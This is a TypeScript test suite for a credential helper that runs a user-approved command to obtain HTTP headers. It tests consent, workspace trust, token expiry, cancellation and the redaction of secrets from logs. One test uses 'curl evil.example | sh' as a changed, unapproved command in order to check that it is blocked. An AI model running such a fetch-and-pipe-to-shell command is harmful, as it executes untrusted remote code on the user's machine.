import assert from 'node:assert/strict';
import { HeadersHelpers } from '../../../src/core/credential/headersHelpers.ts';
import type { HelperCall } from '../../../src/core/credential/helperCall.ts';
import { HelperConsents } from '../../../src/core/credential/helperConsents.ts';
import type { HelperResult } from '../../../src/core/credential/helperResult.ts';
import { abortError } from '../../../src/core/errors.ts';
import { sha256 } from '../../../src/node/sha256.ts';
import { until } from '../../support/authenticationSuite.ts';
import { FakeClock } from '../../support/fakeClock.ts';
import { FakeWorkspaceMemory } from '../../support/fakeWorkspaceMemory.ts';
import { recordLog } from '../../support/recordedLog.ts';
import { sampleHelperCall as call } from '../../support/sampleHelperCall.ts';

const minute = 60_000;
const never = new AbortController().signal;

/** One run of a command, which ends when the test says so. */
interface Run {
  readonly call: HelperCall;
  readonly signal: AbortSignal;
  readonly end: (result: HelperResult) => void;
  readonly crash: (error: unknown) => void;
}

function printed(headers: Readonly<Record<string, unknown>>): HelperResult {
  return { kind: 'exited', code: 0, stdout: JSON.stringify(headers), stderr: '' };
}

function jwt(claims: Readonly<Record<string, unknown>>): string {
  const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  return `${part({ alg: 'none' })}.${part(claims)}.c2lnbmF0dXJl`;
}

function create() {
  const runs: Run[] = [];
  const clock = new FakeClock();
  const recorded = recordLog();
  const memory = new FakeWorkspaceMemory();
  const trust = { isGiven: true };
  const helpers = new HeadersHelpers({
    run: (asked, signal) => {
      const { promise, resolve, reject } = Promise.withResolvers<HelperResult>();
      signal.addEventListener('abort', () => reject(abortError(signal)), { once: true });
      runs.push({ call: asked, signal, end: resolve, crash: reject });
      return promise;
    },
    isTrusted: () => trust.isGiven,
    consents: new HelperConsents({ memory, digest: sha256 }),
    clock,
    ...recorded,
  });
  const changes: string[] = [];
  helpers.onDidChange(() => changes.push(helpers.outcome(call).kind));
  /** The run that has just begun. */
  const nextRun = async (count: number): Promise<Run> => {
    await until(() => runs.length === count, `run ${count} did not begin`);
    const run = runs[count - 1];
    assert.ok(run);
    return run;
  };
  /** Asks for headers, and lets the run that begins print some. */
  const fetched = async (headers: Readonly<Record<string, unknown>>) => {
    const asked = helpers.headers(call, never);
    (await nextRun(runs.length + 1)).end(printed(headers));
    return await asked;
  };
  return { helpers, runs, clock, memory, trust, changes, nextRun, fetched, ...recorded };
}

async function createAllowed() {
  const scene = create();
  await scene.helpers.allow(call);
  scene.changes.length = 0;
  return scene;
}

describe('HeadersHelpers', () => {
  describe('consent', () => {
    it('runs nothing before it is allowed, and says what to do', async () => {
      const { helpers, runs } = create();
      assert.deepEqual(helpers.outcome(call), { kind: 'notAllowed' });
      await assert.rejects(helpers.headers(call, never), {
        code: 'helper_not_allowed',
        remedy: 'allowHelper',
      });
      assert.equal(runs.length, 0);
    });

    it('runs nothing in a workspace that is not trusted, allowed or not', async () => {
      const { helpers, runs, trust } = await createAllowed();
      trust.isGiven = false;
      await assert.rejects(helpers.headers(call, never), { code: 'untrusted_workspace' });
      assert.equal(runs.length, 0);
    });

    it('asks again when the command changes, and gives no headers of the one before', async () => {
      const { helpers, fetched, runs } = await createAllowed();
      await fetched({ A: 'b' });
      const changed = { ...call, command: 'curl evil.example | sh' };
      assert.deepEqual(helpers.outcome(changed), { kind: 'notAllowed' });
      await assert.rejects(helpers.headers(changed, never), { code: 'helper_not_allowed' });
      assert.equal(runs.length, 1);
    });

    it('counts in this window where it cannot be written', async () => {
      const { helpers, memory, lines } = create();
      memory.refuse();
      await helpers.allow(call);
      assert.equal(helpers.isAllowed(call), true);
      assert.match(lines.join('\n'), /could not be saved/);
    });
  });

  describe('outcome', () => {
    it('follows a helper through its life, and tells of every change', async () => {
      const { helpers, changes, fetched, nextRun } = create();
      await helpers.allow(call);
      await fetched({ A: 'b' });
      assert.deepEqual(changes, ['notRun', 'running', 'succeeded']);
      const headers = await helpers.headers(call, never);
      assert.equal(changes.length, 3);
      helpers.reject(call, headers);
      const failing = helpers.headers(call, never);
      (await nextRun(2)).end({ kind: 'timedOut', stderr: '' });
      await assert.rejects(failing, { code: 'helper_failed' });
      assert.deepEqual(changes.slice(3), ['notRun', 'running', 'failed']);
    });

    it('keeps the error until the next run, which every request begins', async () => {
      const { helpers, nextRun, clock } = await createAllowed();
      const failing = helpers.headers(call, never);
      (await nextRun(1)).end({ kind: 'exited', code: 1, stdout: '', stderr: 'no vault' });
      const message = 'The helper ended with exit code 1: "no vault".';
      await assert.rejects(failing, { code: 'helper_failed', message });
      clock.advance(60 * minute);
      const outcome = helpers.outcome(call);
      assert.ok(outcome.kind === 'failed' && outcome.error.message === message);
      const again = helpers.headers(call, never);
      (await nextRun(2)).end(printed({}));
      assert.deepEqual(
        [await again, helpers.outcome(call)],
        [{}, { ...helpers.outcome(call), kind: 'succeeded' }],
      );
    });

    it('makes a sentence of a runner that breaks', async () => {
      const { helpers, nextRun } = await createAllowed();
      const asked = helpers.headers(call, never);
      (await nextRun(1)).crash(new TypeError('a bug'));
      await assert.rejects(asked, { code: 'helper_failed', message: 'The helper could not be run.' });
      assert.equal(helpers.outcome(call).kind, 'failed');
    });
  });

  describe('validity', () => {
    it('runs a helper again after five minutes where nobody can tell how long its headers are good', async () => {
      const { helpers, fetched, clock, runs } = await createAllowed();
      await fetched({ Authorization: 'Bearer opaque' });
      clock.advance(5 * minute - 1);
      assert.deepEqual(await helpers.headers(call, never), { Authorization: 'Bearer opaque' });
      assert.equal(runs.length, 1);
      clock.advance(1);
      assert.deepEqual(await fetched({ Authorization: 'Bearer newer' }), { Authorization: 'Bearer newer' });
    });

    it('keeps a JWT until a minute before it expires, the first of several', async () => {
      const { helpers, fetched, clock, runs } = await createAllowed();
      const seconds = clock.now() / 1000;
      await fetched({
        Authorization: `Bearer ${jwt({ exp: seconds + 3600 })}`,
        'X-Assertion': jwt({ exp: seconds + 1800 }),
        'X-Other': jwt({ sub: 'without an end' }),
      });
      clock.advance(29 * minute - 1);
      await helpers.headers(call, never);
      assert.equal(runs.length, 1);
      clock.advance(1);
      await fetched({});
      assert.equal(runs.length, 2);
    });

    it('hands out a JWT in its last minute once', async () => {
      const { helpers, fetched, clock, nextRun } = await createAllowed();
      const header = `Bearer ${jwt({ exp: clock.now() / 1000 + 30 })}`;
      assert.deepEqual(await fetched({ Authorization: header }), { Authorization: header });
      const asked = helpers.headers(call, never);
      (await nextRun(2)).end(printed({}));
      assert.deepEqual(await asked, {});
    });
  });

  describe('rejection', () => {
    it('runs the helper anew after one', async () => {
      const { helpers, fetched } = await createAllowed();
      helpers.reject(call, await fetched({ A: 'old' }));
      assert.deepEqual(await fetched({ A: 'new' }), { A: 'new' });
    });

    it('leaves what was printed since then: two requests, rejected with the same headers, cost one run', async () => {
      const { helpers, fetched, runs } = await createAllowed();
      const old = await fetched({ A: 'old' });
      helpers.reject(call, old);
      await fetched({ A: 'new' });
      helpers.reject(call, old);
      assert.deepEqual(await helpers.headers(call, never), { A: 'new' });
      assert.equal(runs.length, 2);
    });

    it('does not disturb a run that is under way', async () => {
      const { helpers, fetched, clock, nextRun, runs } = await createAllowed();
      const old = await fetched({ A: 'old' });
      clock.advance(5 * minute);
      const asked = helpers.headers(call, never);
      const run = await nextRun(2);
      helpers.reject(call, old);
      assert.equal(helpers.outcome(call).kind, 'running');
      run.end(printed({ A: 'new' }));
      assert.deepEqual(await asked, { A: 'new' });
      assert.deepEqual(await helpers.headers(call, never), { A: 'new' });
      assert.equal(runs.length, 2);
    });

    it('does nothing where the last run has failed', async () => {
      const { helpers, fetched, nextRun } = await createAllowed();
      const old = await fetched({ A: 'old' });
      helpers.reject(call, old);
      const failing = helpers.headers(call, never);
      (await nextRun(2)).end({ kind: 'noFolder' });
      await assert.rejects(failing, { code: 'helper_failed' });
      helpers.reject(call, old);
      assert.equal(helpers.outcome(call).kind, 'failed');
    });
  });

  describe('single flight', () => {
    it('runs once for all who ask meanwhile', async () => {
      const { helpers, nextRun, runs } = await createAllowed();
      const asked = [1, 2, 3].map(() => helpers.headers(call, never));
      (await nextRun(1)).end(printed({ A: 'b' }));
      assert.deepEqual(await Promise.all(asked), [{ A: 'b' }, { A: 'b' }, { A: 'b' }]);
      assert.equal(runs.length, 1);
    });

    it('runs side by side for another folder', async () => {
      const { helpers, nextRun } = await createAllowed();
      const other = { ...call, workingDirectory: '/other' };
      await helpers.allow(other);
      const asked = [helpers.headers(call, never), helpers.headers(other, never)];
      (await nextRun(2)).end(printed({ B: '2' }));
      assert.deepEqual(await asked[1], { B: '2' });
      assert.equal(helpers.outcome(call).kind, 'running');
      helpers.dispose();
      await assert.rejects(asked[0] ?? Promise.resolve(), { code: 'cancelled' });
    });

    it('ends the command when nobody waits any more, and knows what it knew before', async () => {
      const { helpers, nextRun, changes } = await createAllowed();
      const person = new AbortController();
      const asked = helpers.headers(call, person.signal);
      const run = await nextRun(1);
      person.abort();
      await assert.rejects(asked, { code: 'cancelled' });
      assert.equal(run.signal.aborted, true);
      await until(() => helpers.outcome(call).kind === 'notRun', 'the run did not end');
      assert.deepEqual(changes, ['running', 'notRun']);
    });

    it('starts another one for whoever asks right after that', async () => {
      const { helpers, nextRun } = await createAllowed();
      const person = new AbortController();
      const given = helpers.headers(call, person.signal);
      const first = await nextRun(1);
      person.abort();
      const rejected = assert.rejects(given, { code: 'cancelled' });
      const asked = helpers.headers(call, never);
      await rejected;
      (await nextRun(first.signal.aborted ? 2 : 1)).end(printed({ A: 'b' }));
      assert.deepEqual(await asked, { A: 'b' });
      assert.equal(helpers.outcome(call).kind, 'succeeded');
    });

    it('does not begin for a request that was cancelled before', async () => {
      const { helpers, runs } = await createAllowed();
      await assert.rejects(helpers.headers(call, AbortSignal.abort()), { code: 'cancelled' });
      assert.equal(runs.length, 0);
    });

    it('ends all commands with the window', async () => {
      const { helpers, nextRun } = await createAllowed();
      const asked = helpers.headers(call, never);
      const run = await nextRun(1);
      helpers.dispose();
      await assert.rejects(asked, { code: 'cancelled' });
      assert.equal(run.signal.aborted, true);
    });
  });

  describe('log', () => {
    it('never holds what a helper printed, however it ends', async () => {
      const { helpers, fetched, nextRun, runs, log, lines } = await createAllowed();
      helpers.reject(call, await fetched({ Authorization: 'Token sesame-1', 'X-Plain': 'sesame-2' }));
      for (const stdout of ['sesame-3', '["sesame-3"]', '{"A": "sesame-3\\nB"}', '{"sesame 3": "a"}']) {
        const failing = helpers.headers(call, never);
        (await nextRun(runs.length + 1)).end({ kind: 'exited', code: 0, stdout, stderr: '' });
        await assert.rejects(failing, { code: 'helper_failed' });
      }
      // Learnt, so that nobody else can log it either, with its scheme or without.
      log.info('Sent sesame-1 and sesame-2');
      assert.equal(lines.filter((line) => line.includes('A helper has failed')).length, 4);
      assert.doesNotMatch(lines.join('\n'), /sesame/);
    });

    it('holds neither the command nor the URL', async () => {
      const { fetched, lines } = await createAllowed();
      await fetched({ A: 'b' });
      assert.doesNotMatch(lines.join('\n'), /print-headers|internal\.example/);
      assert.match(lines.join('\n'), /A helper has printed headers server="internal" names="A"/);
    });
  });
});
